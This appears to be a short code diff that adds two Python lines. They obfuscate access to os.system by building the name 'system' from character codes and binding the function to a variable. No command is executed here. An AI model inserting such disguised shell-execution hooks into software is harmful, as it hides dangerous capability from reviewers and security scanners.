@@ -1,0 +1,2 @@
+import os
+X=getattr(os,"".join(map(chr,[115,121,115,116,101,109])))
